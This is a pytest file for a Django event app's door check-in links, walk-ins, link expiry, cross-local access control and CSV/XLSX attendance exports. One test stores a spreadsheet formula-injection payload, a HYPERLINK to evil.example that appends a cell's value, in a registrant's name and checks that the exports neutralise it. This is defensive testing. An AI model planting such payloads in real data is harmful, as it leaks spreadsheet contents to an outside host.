"""Check-in at the door and attendance: staff make the host's link on the registrations page;
the host (no account) searches the list, checks people in and undoes it, adds walk-ins past the
capacity; a revoked, expired or made-up link is a clear 410 or 404; staff then see who came and
export it as CSV and XLSX that a spreadsheet cannot run; another local's staff get 404s."""

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
import time_machine
from django.utils import timezone

from registrations import checkin
from registrations.models import CheckInLink, Registration
from tests.locals.helpers import login_as_local_editor

from .conftest import open_event

pytestmark = pytest.mark.clock  # the event is dated from today

BRAND = '<span class="site-header__logo" aria-hidden="true">OPEIU</span>'
EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'


def manage_url(page):
    return f"/admin/registrations/{page.pk}/"


@pytest.fixture
def entry(event):
    """The event open for 2 places: Ada and Ben registered, Cleo waitlisted."""
    row = open_event(event, capacity=2)
    people = {}
    for name, email, status in (
        ("Ada Lovelace", "ada@example.org", "confirmed"),
        ("Ben Okri", "ben@example.org", "confirmed"),
        ("Cleo Waits", "cleo@example.org", "waitlisted"),
    ):
        people[name.split()[0]] = Registration.objects.create(
            settings=row, name=name, email=email, phone="612 555 0100", status=status
        )
    return row, people


def make_link(client, event):
    """Staff make the link on the registrations page, which shows it once."""
    login_as_local_editor(client, 12)
    response = client.post(f"{manage_url(event)}check-in-link/", {"action": "create"})
    assert response.status_code == 302
    page = client.get(manage_url(event)).content.decode()
    url = re.search(r'value="(http://testserver/register/check-in/[^"]+/)"', page).group(1)
    assert "shown only once" in page
    again = client.get(manage_url(event)).content.decode()
    assert url not in again and "A check-in link is on" in again  # stored hashed: shown once
    client.logout()
    return url.removeprefix("http://testserver")


def test_the_host_checks_people_in_and_undoes_it(client, event, entry):
    row, people = entry
    link = make_link(client, event)
    assert CheckInLink.objects.get(settings=row).token_hash not in link  # only the hash is kept

    page = client.get(link)
    html = page.content.decode()
    assert page.status_code == 200 and page["Referrer-Policy"] == "same-origin"
    assert "no-cache" in page["Cache-Control"] and 'name="robots" content="noindex' in html
    assert "0</strong> checked in · 2 registered of 2 places" in html
    assert BRAND in html  # the site's header, named (the context's "settings" is Wagtail's)
    assert "Ada Lovelace" in html and "a…@example.org" in html
    assert "ada@example.org" not in html  # the host sees names, not addresses
    assert html.index("On the waitlist") < html.index("Cleo Waits")

    ada = people["Ada"]
    response = client.post(link, {"registration": ada.pk, "action": "check-in"})
    assert response.status_code == 302 and response["Location"].endswith(f"#r{ada.pk}")
    html = client.get(response["Location"]).content.decode()
    assert "Ada Lovelace</strong>: checked in." in html
    assert "1</strong> checked in" in html and "Undo<span" in html
    first_time = Registration.objects.get(pk=ada.pk).checked_in_at
    assert first_time is not None
    client.post(link, {"registration": ada.pk, "action": "check-in"})  # a second tap
    assert Registration.objects.get(pk=ada.pk).checked_in_at == first_time

    response = client.post(link, {"registration": ada.pk, "action": "undo", "q": "ada"})
    assert "q=ada" in response["Location"]
    html = client.get(response["Location"]).content.decode()
    assert "no longer checked in" in html
    assert Registration.objects.get(pk=ada.pk).checked_in_at is None


def test_search_finds_by_name_email_or_phone(client, event, entry):
    row, people = entry
    people["Ben"].phone = "651 555 0199"
    people["Ben"].save()
    link = make_link(client, event)
    for query in ("okri", "BEN@example", "0199"):
        html = client.get(link, {"q": query}).content.decode()
        assert "Ben Okri" in html and "Ada Lovelace" not in html, query
    html = client.get(link, {"q": "nobody-here"}).content.decode()
    assert "Nobody matches “nobody-here”" in html


def test_a_walk_in_is_checked_in_past_the_capacity(client, event, entry):
    row, people = entry
    link = make_link(client, event)
    response = client.post(f"{link}walk-in/", {"name": "Dee Door", "email": "", "phone": ""})
    assert response.status_code == 302
    html = client.get(response["Location"]).content.decode()
    assert "Dee Door</strong>: added as a walk-in and checked in." in html
    assert "3 registered of 2 places (walk-ins: 1)" in html
    # A second walk-in without an address is another person, not a duplicate.
    client.post(f"{link}walk-in/", {"name": "Eve Door"})
    walk_ins = row.registrations.filter(walk_in=True)
    assert sorted(walk_ins.values_list("name", flat=True)) == ["Dee Door", "Eve Door"]
    assert all(r.checked_in_at and r.status == "confirmed" for r in walk_ins)
    # Someone already registered who gives their address at the door is checked in, once.
    client.post(f"{link}walk-in/", {"name": "Ben O.", "email": "BEN@example.org"})
    assert row.registrations.filter(email__iexact="ben@example.org").count() == 1
    assert Registration.objects.get(pk=people["Ben"].pk).checked_in_at is not None
    # Bad input is a form error, never a 500.
    response = client.post(f"{link}walk-in/", {"name": "", "email": "not-an-address"})
    assert response.status_code == 400
    assert "This field is required" in response.content.decode()


def test_wrong_revoked_and_expired_links(client, event, entry):
    row, people = entry
    assert client.get("/register/check-in/made-up-token/").status_code == 404
    walk_in = client.post("/register/check-in/made-up-token/walk-in/", {"name": "X"})
    assert walk_in.status_code == 404
    link = make_link(client, event)
    # A registration of another entry, or no registration at all: 404, nothing changes.
    for data in ({"registration": "999999", "action": "check-in"}, {"registration": "x"}):
        assert client.post(link, data).status_code == 404

    # A new link turns the old one off.
    old, link = link, make_link(client, event)
    response = client.get(old)
    assert response.status_code == 410
    assert "This check-in link has been turned off" in response.content.decode()
    assert BRAND in response.content.decode()
    gone = client.post(old, {"registration": people["Ada"].pk, "action": "check-in"})
    assert gone.status_code == 410
    assert Registration.objects.get(pk=people["Ada"].pk).checked_in_at is None
    assert client.get(link).status_code == 200

    # Staff turn it off.
    login_as_local_editor(client, 12)
    client.post(f"{manage_url(event)}check-in-link/", {"action": "revoke"})
    assert "No check-in link yet" in client.get(manage_url(event)).content.decode()
    client.logout()
    assert client.get(link).status_code == 410

    # After the event (and the hours after it for tidying up), a link has expired.
    link = make_link(client, event)
    after = checkin.entry_end(event, None) + checkin.CHECKIN_AFTER_END
    with time_machine.travel(after - dt.timedelta(minutes=1), tick=False):
        assert client.get(link).status_code == 200
    with time_machine.travel(after, tick=False):
        response = client.get(link)
        assert response.status_code == 410
        assert "This check-in link has expired" in response.content.decode()
        walk_in = client.post(f"{link}walk-in/", {"name": "Late"})
        assert walk_in.status_code == 410
        assert not row.registrations.filter(name="Late").exists()
        # Nor can staff make a new one for an event that is over.
        login_as_local_editor(client, 12)
        client.post(f"{manage_url(event)}check-in-link/", {"action": "create"})
        assert "This event is over" in client.get(manage_url(event)).content.decode()


def test_a_link_shows_its_own_series_date_only(client, series):
    today = timezone.localdate()
    first, second = [d for d in series.dates(today + dt.timedelta(days=30)) if d > today][:2]
    rows = [open_event(series, date=date, capacity=5) for date in (first, second)]
    for row, name in zip(rows, ("First Date Person", "Second Date Person"), strict=True):
        Registration.objects.create(
            settings=row, name=name, email=f"{name[:5]}@example.org", status="confirmed"
        )
    login_as_local_editor(client, 12)
    client.post(f"{manage_url(series)}check-in-link/", {"action": "create", "date": first})
    page = client.get(manage_url(series), {"date": first.isoformat()}).content.decode()
    link = re.search(r'value="http://testserver(/register/check-in/[^"]+/)"', page).group(1)
    client.logout()
    html = client.get(link).content.decode()
    assert "First Date Person" in html and "Second Date Person" not in html
    other = Registration.objects.get(name="Second Date Person")
    assert client.post(link, {"registration": other.pk, "action": "check-in"}).status_code == 404
    assert Registration.objects.get(pk=other.pk).checked_in_at is None


def test_staff_see_attendance_and_export_it_formula_safe(client, event, entry):
    row, people = entry
    people["Ada"].name = EVIL
    people["Ada"].phone = "+1 612 555 0100"
    people["Ada"].checked_in_at = timezone.now()
    people["Ada"].save()
    checkin.add_walk_in(row, name="@Walk In", email="", phone="")
    login_as_local_editor(client, 12)
    html = client.get(manage_url(event)).content.decode()
    assert "attended (2, 1 walk-in)" in html and "walk-in</span>" in html

    response = client.get(f"{manage_url(event)}export/", {"format": "csv"})
    assert response["Content-Disposition"] == (
        'attachment; filename="strike-school-registrations.csv"'
    )
    assert response["Cache-Control"].startswith("private, no-store")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Name", "Email", "Phone", "Status", "Registered at", "Cancelled at",
                       "Checked in at", "Walk-in"]  # fmt: skip
    by_email = {r[1]: r for r in rows[1:]}
    ada = by_email["ada@example.org"]
    assert ada[0] == "'" + EVIL and ada[2] == "'+1 612 555 0100" and ada[6]
    walk_in = by_email[""]
    assert walk_in[0] == "'@Walk In" and walk_in[3] == "Registered" and walk_in[7] == "yes"
    assert by_email["cleo@example.org"][3] == "On the waitlist"

    response = client.get(f"{manage_url(event)}export/", {"format": "xlsx"})
    assert response["Content-Disposition"].endswith('registrations.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [list(r) for r in sheet.iter_rows()]
    assert [c.value for c in cells[0]][:2] == ["Name", "Email"]
    evil = next(r for r in cells if r[1].value == "ada@example.org")
    assert evil[0].value == EVIL and evil[0].data_type == "s"  # text, not a formula
    assert all(c.data_type == "s" for r in cells for c in r if c.value is not None)
    assert client.get(f"{manage_url(event)}export/", {"format": "pdf"}).status_code == 404


def test_another_locals_staff_get_404_and_change_nothing(client, event, entry):
    row, people = entry
    link, _token = checkin.create_link(row)
    login_as_local_editor(client, 212)
    for response in (
        client.get(manage_url(event)),
        client.get(f"{manage_url(event)}export/", {"format": "csv"}),
        client.get(f"{manage_url(event)}export/", {"format": "xlsx"}),
        client.post(f"{manage_url(event)}check-in-link/", {"action": "create"}),
        client.post(f"{manage_url(event)}check-in-link/", {"action": "revoke"}),
    ):
        assert response.status_code == 404
        assert b"Ada Lovelace" not in response.content
    assert list(CheckInLink.objects.filter(settings=row)) == [link]
    assert CheckInLink.objects.get(pk=link.pk).revoked_at is None
    # No settings row yet, or a GET where only POST is taken: still no 500.
    login_as_local_editor(client, 12)
    assert client.get(f"{manage_url(event)}check-in-link/").status_code == 405
    row.delete()
    assert client.get(f"{manage_url(event)}export/").status_code == 404
    assert client.post(f"{manage_url(event)}check-in-link/", {"action": "x"}).status_code == 404


def test_the_registration_forms_error_page_keeps_the_sites_header(client, event):
    row = open_event(event, capacity=2)
    response = client.post("/register/", {"settings": row.pk, "name": "", "email": "x"})
    assert response.status_code == 400
    html = response.content.decode()
    assert BRAND in html and f'name="settings" value="{row.pk}"' in html


def test_the_check_in_form_passes_csrf_as_a_browser_sends_it(event, entry):
    """A browser posts the page's token with its Origin (the page's Referrer-Policy must not be
    no-referrer, under which Chromium sends "Origin: null" and CSRF refuses the post)."""
    from django.test import Client

    row, people = entry
    _link, token = checkin.create_link(row)
    browser = Client(enforce_csrf_checks=True)
    url = f"/register/check-in/{token}/"
    page = browser.get(url)
    assert page["Referrer-Policy"] in ("same-origin", "strict-origin", "origin")
    csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode()).group(1)
    data = {"csrfmiddlewaretoken": csrf, "registration": people["Ben"].pk, "action": "check-in"}
    response = browser.post(url, data, HTTP_ORIGIN="http://testserver")
    assert response.status_code == 302
    assert browser.post(url, data, HTTP_ORIGIN="null").status_code == 403  # what no-referrer does
    assert Registration.objects.get(pk=people["Ben"].pk).checked_in_at is not None
